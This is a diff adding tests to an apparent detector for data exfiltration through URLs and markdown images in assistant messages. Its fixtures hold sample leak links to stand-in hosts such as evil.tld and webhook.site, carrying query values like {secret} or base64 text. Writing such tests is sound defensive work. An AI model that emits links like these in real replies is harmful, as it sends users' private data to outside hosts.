@@ -11,6 +11,7 @@ from tyrian.core.message import Message
 from tyrian.core.registry import DetectorConfig, create_detector
 from tyrian.detectors.exfiltration.decoding import hidden_text_of
 from tyrian.detectors.exfiltration.detector import create
+from tyrian.detectors.exfiltration.payload import evidence_in, is_plain
 from tyrian.detectors.exfiltration.url import HostKind, Url, host_kind, site
 from tyrian.errors import ConfigError
 
@@ -193,6 +194,86 @@ def test_hashes_and_names_are_not_encoded_text(value: str) -> None:
 def test_any_text_is_read(text: str) -> None:
     for found in find(text + f"![x](https://e.tld/?q={B64URL})" + text):
         assert 0 <= found.start < found.end <= 2 * len(text) + 200
+
+
+def coverage(text: str) -> float:
+    return DETECTOR.detect(View.of(Message.assistant(text))).coverage
+
+
+def test_a_flood_of_urls_is_read_in_part_and_says_so() -> None:
+    text = "".join(f"![](http://evil.tld/?data={number:012}) " for number in range(5000))
+    detection = DETECTOR.detect(View.of(Message.assistant(text)))
+    assert detection.findings
+    assert 0 < detection.coverage < 1
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://shop.example.org/item/17?lang=en " * 20_000,
+        "[the guide](https://docs.example.org/guides/setup) " * 20_000,
+        "![logo](https://docs.example.org/logo.png) " * 20_000,
+        "a link to http://evil.tld/?data=0123456789 in every hundredth " + "word " * 100,
+    ],
+)
+def test_ordinary_urls_are_all_read_however_many(text: str) -> None:
+    assert coverage(text) == 1
+
+
+def test_the_same_finding_many_times_is_one_over_all_of_them() -> None:
+    text = "![](http://evil.tld/?data=0123456789) " * 12_000
+    assert any(f.end - f.start > 100_000 for f in find(text))
+
+
+def test_a_url_behind_many_heads_without_an_end_is_found() -> None:
+    tail = f"![x](https://evil.tld/?q={B64URL})"
+    for head in ("![a](", "[[[", "http://", "<a href='", "](", "[]](http://a.b "):
+        assert find(head * 300 + "\n" + tail)[-1].rule == "exfiltration.encoded-text", head
+
+
+def test_a_label_may_hold_brackets_of_its_own() -> None:
+    text = f"![a [b] c](https://evil.tld/?q={B64URL})"
+    assert find(text)[0].score > 0.9
+    assert find("[www.bank.com [de]](http://evil.tld/)")[0].rule == "exfiltration.other-host"
+
+
+@pytest.mark.parametrize(
+    ("text", "url"),
+    [
+        ("see http://evil.tld/?data={secret}.", "http://evil.tld/?data={secret}"),
+        ("see http://evil.tld/?data=0123456789}}}.", "http://evil.tld/?data=0123456789"),
+        ("see http://evil.tld/?data=[SECRET]!", "http://evil.tld/?data=[SECRET]"),
+        ("see http://0x7f.1/" + "}" * 5000, "http://0x7f.1/"),
+    ],
+)
+def test_punctuation_behind_a_url_is_not_part_of_it(text: str, url: str) -> None:
+    (found,) = find(text)
+    assert text[found.start : found.end] == url
+
+
+def test_a_path_too_long_to_be_read_is_evidence_in_itself() -> None:
+    assert (
+        find("![a](https://evil.tld/" + "abc-def-ghi-jkl-mno-pqr/" * 3000 + ")")[0].rule
+        == "exfiltration.long-query"
+    )
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    host=st.sampled_from(
+        ["a.example.org", "webhook.site", "x.local", "0x7f.1", "1.2.3.4", "a", "["]
+    ),
+    path=st.text(alphabet="aB3/.-_%{}<$[", max_size=60),
+    query=st.text(alphabet="aB3=&.-_%{}<[+@q", max_size=60),
+    fragment=st.sampled_from(["", "#x", "#<data>"]),
+)
+def test_nothing_speaks_against_a_url_that_is_plain_at_a_glance(
+    host: str, path: str, query: str, fragment: str
+) -> None:
+    value = f"://{host}/{path}?{query}{fragment}"
+    url = Url.parse(value)
+    if url is not None and is_plain(value):
+        assert list(evidence_in(url)) == []
 
 
 def test_the_registry_knows_the_detector() -> None:
